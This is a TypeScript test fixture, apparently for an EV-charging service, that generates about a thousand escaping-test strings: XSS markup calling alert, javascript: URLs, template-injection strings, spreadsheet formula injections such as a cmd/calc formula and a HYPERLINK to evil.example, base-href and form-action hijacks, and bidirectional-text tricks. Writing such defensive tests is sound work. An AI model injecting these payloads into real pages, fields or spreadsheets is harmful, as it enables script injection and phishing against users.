/**
 * Text that would be executed by a page without proper escaping (T14): markup, addresses that are scripts, templates, formulas, and characters that
 * hide or reverse the text around them. Each of the scripts calls `alert`, so that a browser that runs one shows it.
 */

/** The shortest come first, since some fields allow only few characters. */
export const markup: ReadonlyArray<string> = [
  "<svg onload=alert(1)>",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "'-alert(1)-'",
  '";alert(1)//',
  '"><svg/onload=alert(1)>',
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//",
  "data:text/html,<script>alert(1)</script>",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe src=javascript:alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<details open ontoggle=alert(1)>",
  "<math><mi xlink:href=data:x onclick=alert(1)>",
  "<body onload=alert(1)>",
  "<style>*{background:url(x)}</style>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<form action=//evil.example><input type=submit>",
  "<object data=javascript:alert(1)>",
  "<!--<img src=--><img src=x onerror=alert(1)>",
  '" onfocus=alert(1) autofocus="',
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  "+1+1",
  "-1+1",
  "\u202egnp.exe\u202c",
  "\u2066\u2067x\u2069\u2069",
  "\ufeff\u200b\u00ad<b>x</b>"
]

/** Characters that no field of REST accepts, but that a charger may send. */
const controls: ReadonlyArray<string> = [
  "a\0<img src=x onerror=alert(1)>",
  "<scr\0ipt>alert(1)</script>",
  "<img\tsrc=x\nonerror=alert(1)>",
  "java\nscript:alert(1)",
  "\u001b[31m<svg onload=alert(1)>\u001b[0m",
  "\t=1+1",
  "line\r\nbreak<svg onload=alert(1)>",
  "\ud83d<svg onload=alert(1)>"
]

const surroundings: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `Quay ${text}`,
  (text) => `${text} 12`,
  (text) => `"${text}`,
  (text) => `'${text}'`,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => `</pre>${text}`,
  (text) => `</td></tr>${text}`,
  (text) => `</option></select>${text}`,
  (text) => `<b>${text}</b>`,
  (text) => `${text}${text}`,
  (text) => `\\${text}`,
  (text) => `{"__html":${JSON.stringify(text)}}`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll("<", "\uff1c"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => `\u202e${text}`
]

/** Each text in each of the surroundings, some thousand, and two long texts. All of them may come from chargers and partners. */
export const everyMarkup: ReadonlyArray<string> = [
  ...surroundings.flatMap((surround) => [...markup, ...controls].map(surround)),
  "<img src=x onerror=alert(1)>".repeat(200),
  `${"x".repeat(5_000)}<svg onload=alert(1)>`
]
